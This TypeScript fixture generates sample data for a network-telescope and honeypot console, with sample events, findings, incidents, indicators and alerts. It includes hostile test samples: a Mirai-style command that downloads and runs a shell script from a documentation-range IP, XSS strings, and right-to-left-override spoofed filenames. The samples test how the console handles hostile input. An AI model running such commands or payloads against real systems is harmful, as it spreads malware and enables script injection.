// Canned data for looking at the console: nothing, a little, or much of everything; some of it hostile.
import type { Event } from '#model/event/event.ts';
import type { Agent, StreamFlow } from '#model/record/agent.ts';
import type { Alert, AlertChannel } from '#model/record/alert.ts';
import type { Campaign } from '#model/record/campaign.ts';
import type { Finding } from '#model/record/finding.ts';
import type { Incident } from '#model/record/incident.ts';
import type { AllowEntry, Indicator } from '#model/record/indicator.ts';
import type { Input } from '#model/record/input.ts';
import type { Report } from '#model/record/report.ts';
import { trafficClasses } from '#model/vocab/traffic-class.ts';
import { dice } from './random.ts';

export type Amount = 'none' | 'little' | 'much';

const countries = [
  'CN',
  'US',
  'RU',
  'NL',
  'BR',
  'IN',
  'VN',
  'DE',
  'KR',
  'TW',
  'FR',
  'GB',
  'ID',
  'IR',
  'UA',
  'TR',
  'TH',
  'ZA',
  'SG',
  'HK',
  'AU',
  'CA',
  'MX',
  'PL',
  'SE',
  'AR',
  'EG',
  'NG',
];
const protocols = ['dns', 'ntp', 'snmp', 'ssdp', 'cldap', 'memcached', 'ssh', 'telnet', 'http'];
const tools = ['masscan', 'zmap', 'mirai', 'unicornscan', ''];
const hour = 3_600_000;

export function makeData(amount: Amount, now: number) {
  const { next, upTo, pick } = dice(7);
  const size = { none: 0, little: 1, much: 12 }[amount];
  const id = (kind: string, n: number) => `${kind}-${String(n).padStart(4, '0')}`;
  const address = () =>
    `${pick([45, 80, 91, 103, 141, 185, 193, 212])}.${upTo(256)}.${upTo(256)}.${1 + upTo(254)}`;
  const ago = (hours: number) => Math.round(now - next() * hours * hour);

  const events: Event[] = Array.from({ length: size === 0 ? 0 : size * 60 }, (_, n): Event => {
    const at = now - n * (amount === 'much' ? 41_000 : 600_000) - upTo(30_000);
    const kind = upTo(5);
    const base: Event = {
      '@timestamp': at,
      'event.id': `018f0000-0000-7000-8000-${String(n).padStart(12, '0')}`,
      'event.module': 'telescope',
      'event.dataset': 'telescope.flow',
      'source.ip':
        n % 37 === 5 ? `2001:db8:${upTo(65_535).toString(16)}::${upTo(65_535).toString(16)}` : address(),
      'source.port': 1024 + upTo(60_000),
      'source.geo.country_iso_code': pick(countries),
      'source.as.number': 4_000 + upTo(60_000),
      'destination.ip': `203.0.113.${upTo(255)}`,
      'destination.port': pick([22, 23, 53, 80, 123, 161, 389, 443, 445, 1900, 3389, 5060, 11211]),
      'hinomi.input': 'input-0001',
      'log.file.path': 'capture-2025-11.pcap',
      'log.offset': 24 + n * 90,
      'hinomi.record': n + 1,
      labels: { 'vlan.id': '20' },
    };
    if (kind < 3)
      return {
        ...base,
        'hinomi.class': pick(trafficClasses),
        'hinomi.reason': 'tcp-syn-only',
        'network.transport': pick(['tcp', 'udp']),
        'network.protocol': pick(protocols),
        'network.packets': 1 + upTo(9_000),
        'network.bytes': 60 + upTo(900_000),
        'hinomi.tool.name': pick(tools),
        'hinomi.tool.probability': 0.98,
      };
    const honey: Event = {
      ...base,
      'event.module': 'honeypot',
      'event.dataset': pick(['honeypot.ssh', 'honeypot.telnet', 'honeypot.http']),
      'observer.type': 'honeypot',
      'hinomi.session': `s${upTo(99)}`,
      'network.protocol': 'ssh',
    };
    if (kind === 3)
      return {
        ...honey,
        'event.action': 'login-attempt',
        'event.outcome': pick(['failure', 'failure', 'success']),
        'user.name': pick(['root', 'admin', 'ubuntu', 'pi\u202Etxt.exe', 'oracle']),
        'hinomi.password': pick(['123456', 'admin', '<script>alert(1)</script>', 'P@ssw0rd']),
      };
    return {
      ...honey,
      'event.action': pick(['command', 'download-request']),
      'process.command_line': pick([
        'cd /tmp || cd /var/run; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh',
        'uname -a',
        'cat /proc/cpuinfo | grep name | wc -l',
      ]),
      'url.full': 'http://malware.example.net/bins/arm7?<img src=x onerror=alert(1)>',
      'url.domain': 'malware.example.net',
      'event.original':
        '{"eventid":"cowrie.command.input","input":"uname -a\\u0000\\u0007","session":"a1b2"}',
    };
  });

  const findings: Finding[] = Array.from({ length: size * 4 }, (_, n): Finding => {
    const protocol = pick(['snmp', 'dns', 'ntp', 'cldap']);
    const kind = n % 4;
    const titles = [
      {
        id: 'finding.reflection.victim',
        values: { victim: address(), protocol, packets: upTo(900_000), reflectors: 40 + upTo(2_000) },
      },
      {
        id: 'finding.brute-force.guessing',
        values: { source: address(), protocol: 'ssh', attempts: 200 + upTo(9_000), users: 12 },
      },
      {
        id: 'finding.scan.horizontal.tool',
        values: { source: address(), tool: 'masscan', protocol: 'tcp', targets: 4_096, ports: 3 },
      },
      {
        id: 'finding.malware-download',
        values: { url: 'http://malware.example.net/bins/arm7', requests: 31, sources: 9 },
      },
    ];
    const start = ago(20);
    return {
      id: id('finding', n),
      detector: ['reflection', 'brute-force', 'scan', 'malware-download'][kind]!,
      rsit: (['ddos', 'brute-force', 'scanner', 'malware-distribution'] as const)[kind]!,
      techniques: kind === 1 ? ['T1110'] : [],
      severity: [88, 62, 25, 74][kind]!,
      confidence: 60 + upTo(40),
      title: titles[kind]!,
      subjects: [
        { role: kind === 0 ? 'victim' : 'attacker', type: 'ip', value: address() },
        ...(kind === 3
          ? [{ role: 'infrastructure', type: 'url', value: 'http://malware.example.net/bins/arm7' } as const]
          : []),
      ],
      start,
      end: Math.min(now, start + upTo(4 * hour)),
      ongoing: n % 5 === 0,
      protocol,
      rate: { peak: 18_200, mean: 4_100, unit: 'packets/s' },
      evidence: {
        events: events.slice(n, n + 5).map(event => event['event.id']),
        count: 1_200 + upTo(9_999),
        packets: 90_000 + upTo(900_000),
        query:
          "SELECT * FROM events WHERE `hinomi.class` = 'reflected-response'\n  AND `destination.ip` = toIPv6('198.51.100.7')\nORDER BY `@timestamp`",
      },
      unseen: [
        { id: 'unseen.victim', values: {} },
        { id: 'unseen.forged-source', values: {} },
      ],
      inputs: ['input-0001'],
      sensors: ['local'],
      incident: id('incident', n % Math.max(1, size)),
      exercise: '',
      created: start,
      updated: start,
    };
  });

  const incidents: Incident[] = Array.from({ length: size * 3 }, (_, n): Incident => {
    const own = findings.filter(finding => finding.incident === id('incident', n));
    const lead = own[0] ?? findings[n % Math.max(1, findings.length)]!;
    return {
      id: id('incident', n),
      number: 1_000 + n,
      status: (['new', 'acknowledged', 'contained', 'closed', 'false-positive'] as const)[n % 5]!,
      title: lead.title,
      rsit: lead.rsit,
      severity: lead.severity,
      tlp: (['amber', 'green', 'clear', 'amber+strict', 'red'] as const)[n % 5]!,
      subjects: lead.subjects,
      findings: own.map(finding => finding.id),
      ...(n % 2 ? { assignee: 'tanaka' } : {}),
      start: lead.start,
      end: lead.end,
      entries: [
        { at: lead.start, by: 'system', kind: 'opened', text: '' },
        { at: lead.start + 60_000, by: 'tanaka', kind: 'status', text: 'acknowledged' },
        {
          at: lead.start + 90_000,
          by: 'tanaka',
          kind: 'note',
          text: 'Victim informed by telephone.\n被害組織に電話で連絡済み。',
        },
      ],
      exercise: '',
      created: lead.start,
      updated: lead.end,
    };
  });

  const campaigns: Campaign[] = Array.from({ length: size * 2 }, (_, n): Campaign => {
    const ports = pick([['23', '2323'], ['22'], ['80', '443', '8080', '8443'], ['445']]);
    return {
      id: id('campaign', n),
      title: {
        id: 'campaign.ports.tool',
        values: { sources: 120 + n, protocol: 'tcp', ports: ports.join(', '), tool: 'mirai' },
      },
      shared: { tool: 'mirai', ports, protocol: 'tcp' },
      sources: 120 + upTo(900),
      topSources: Array.from({ length: 40 }, () => ({
        ip: address(),
        country: pick(countries),
        as: 4_000 + upTo(60_000),
        packets: upTo(90_000),
      })),
      targets: 4_096,
      packets: upTo(9_000_000),
      start: ago(72),
      end: ago(2),
      confidence: 82,
      findings: findings.slice(0, 3).map(finding => finding.id),
      query: "SELECT `source.ip`, count() FROM events WHERE `hinomi.tool.name` = 'mirai' GROUP BY 1",
      exercise: '',
      created: now,
      updated: now,
    };
  });

  const indicators: Indicator[] = Array.from({ length: size * 9 }, (_, n): Indicator => {
    const kind = n % 5;
    const value = [
      'malware.example.net',
      address(),
      `http://cdn${n}.example.org/a/very/long/path/that/never/seems/to/end/index.php?session=${'ab'.repeat(40)}`,
      '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      `${upTo(200)}.example.xn--p1ai`,
    ][kind]!;
    return {
      id: id('indicator', n),
      type: (['domain', 'ipv4', 'url', 'sha256', 'domain'] as const)[kind]!,
      value,
      status: (['active', 'candidate', 'active', 'expired', 'false-positive', 'withdrawn'] as const)[n % 6]!,
      subdomains: kind === 0,
      action: 'warn',
      confidence: 50 + upTo(50),
      tlp: 'amber',
      labels: ['mirai'],
      reason: { id: 'indicator.manual', values: { reason: 'Spreads malware to home routers.' } },
      decidedBy: 'account:tanaka',
      validFrom: now - 5 * 24 * hour,
      validUntil: now + 25 * 24 * hour,
      findings: findings.slice(0, 2).map(finding => finding.id),
      events: events.slice(0, 3).map(event => event['event.id']),
      sightings: upTo(900),
      firstSeen: ago(200),
      lastSeen: ago(3),
      exercise: '',
      created: ago(100),
      updated: ago(3),
    };
  });

  const inputs: Omit<Input, 'path'>[] = Array.from({ length: size * 3 }, (_, n) => ({
    id: id('input', n + 1),
    file: ['capture-2025-11.pcap', 'eve.json.gz', 'cowrie.json.2025-11-20', 'broken‮gpj.pcap', 'conn.log'][
      n % 5
    ]!,
    format: ['pcap', 'suricata', 'cowrie', 'pcap', 'zeek'][n % 5]!,
    sha256: '9f86d081884c7d65'.repeat(4),
    vantage: 'unknown' as const,
    by: 'tanaka',
    status: (['done', 'reading', 'done', 'failed', 'done'] as const)[n % 5]!,
    bytes: 48_000_000 + upTo(900_000_000),
    bytesRead: 30_000_000,
    records: upTo(2_000_000),
    events: upTo(400_000),
    skippedCount: n % 3 === 0 ? 214 : 0,
    skipped:
      n % 3 === 0
        ? Array.from({ length: 8 }, (_, at) => ({
            at: `line ${at * 31 + 4}`,
            why: 'not JSON: unexpected end of input',
          }))
        : [],
    classes: { scan: 120_331, backscatter: 2_210, 'amplification-request': 911, unknown: 45 },
    fingerprints: { masscan: 80_123, zmap: 1_233 },
    findings: findings.slice(n, n + 3).map(finding => finding.id),
    error: n % 5 === 3 ? 'not a capture: unknown magic number 0x00000000 at byte 0' : '',
    firstEvent: now - 40 * hour,
    lastEvent: now - 3 * hour,
    created: ago(30),
    finished: now,
    exercise: '',
  }));

  const flow = (agent: string, stream: string, state: StreamFlow['state'], reason: string): StreamFlow => ({
    id: `${agent}/${stream}`,
    agent,
    stream,
    expected: 120_400,
    dropped: state === 'losing' ? 2_011 : 0,
    received: state === 'losing' ? 118_389 : 120_400,
    duplicates: 12,
    lag: state === 'late' ? 92_000 : 640,
    lastEvent: now - 4_000,
    lastCanary: now - 31_000,
    canaryDelay: 120,
    state,
    reason,
    updated: now,
  });
  const flows: StreamFlow[] =
    size === 0
      ? []
      : [
          flow('agent-1', 'honeypot.ssh', 'flowing', ''),
          flow('agent-1', 'honeypot.http', 'quiet', 'flow.nothing-to-send'),
          ...(amount === 'much'
            ? [
                flow('agent-1', 'honeypot.dns', 'failed', 'port 5354 is in use by another program'),
                flow('agent-2', 'telescope', 'losing', 'flow.dropped-at-agent'),
                flow('agent-2', 'capture', 'late', 'flow.clock-differs'),
                flow('agent-3', 'telescope', 'silent', 'flow.no-contact'),
              ]
            : []),
        ];
  const agents: Omit<Agent, 'tokenHash'>[] = (size === 0 ? [] : amount === 'much' ? [1, 2, 3] : [1]).map(
    n => ({
      id: `agent-${n}`,
      name: ['local', 'osaka-darknet', 'partner-ams'][n - 1]!,
      vantage: (['honeypot', 'darknet', 'darknet'] as const)[n - 1]!,
      status: n === 3 ? 'retired' : 'active',
      quota: 50_000_000,
      version: '0.1.0',
      enrolled: now - 90 * 24 * hour,
      lastSeen: now - 4_000,
    }),
  );

  const channels: AlertChannel[] = Array.from({ length: Math.min(3, size) }, (_, n) => ({
    id: id('channel', n),
    name: ['CSIRT desk', 'ISP abuse', 'Chat'][n]!,
    kind: n === 2 ? 'webhook' : 'mail',
    target: n === 2 ? 'https://chat.example.jp/hooks/abcdef' : 'soc@example.jp',
    language: 'ja',
    enabled: n !== 1,
    minSeverity: 60,
    classes: [],
    prefixes: ['192.0.2.0/24'],
    tlp: 'amber',
    created: now,
    updated: now,
  }));
  const alerts: Alert[] = Array.from(
    { length: size * 3 },
    (_, n): Alert => ({
      id: id('alert', n),
      incident: id('incident', n % Math.max(1, size)),
      channel: id('channel', 0),
      status: (['sent', 'acknowledged', 'failed', 'queued', 'closed'] as const)[n % 5]!,
      attempts: 1 + (n % 3),
      lastError: n % 5 === 2 ? '451 4.7.1 greylisted, try again later' : '',
      nextAttempt: now,
      created: ago(10),
      sent: ago(9),
      tokenHash: '',
      exercise: '',
    }),
  );
  const allowEntries: AllowEntry[] = Array.from({ length: size * 2 }, (_, n) => ({
    id: id('allow', n),
    type: n % 2 ? 'cidr' : 'domain',
    value: n % 2 ? '192.0.2.0/24' : `own${n}.example.jp`,
    reason: 'Own network',
    by: 'account:tanaka',
    created: now,
  }));
  const reports: Report[] = Array.from({ length: size * 2 }, (_, n) => ({
    id: id('report', n),
    kind: 'mistake',
    domain: 'shop.example.net',
    indicator: id('indicator', n),
    at: ago(30),
    text: 'This is my own shop. Please look again. <b>thanks</b>',
    status: n % 3 === 1 ? 'accepted' : 'open',
    note: '',
    updated: now,
  }));
  return {
    events,
    findings,
    incidents,
    campaigns,
    indicators,
    inputs,
    flows,
    agents,
    channels,
    alerts,
    allowEntries,
    reports,
  };
}

export type Data = ReturnType<typeof makeData>;
export { countries as fixtureCountries };
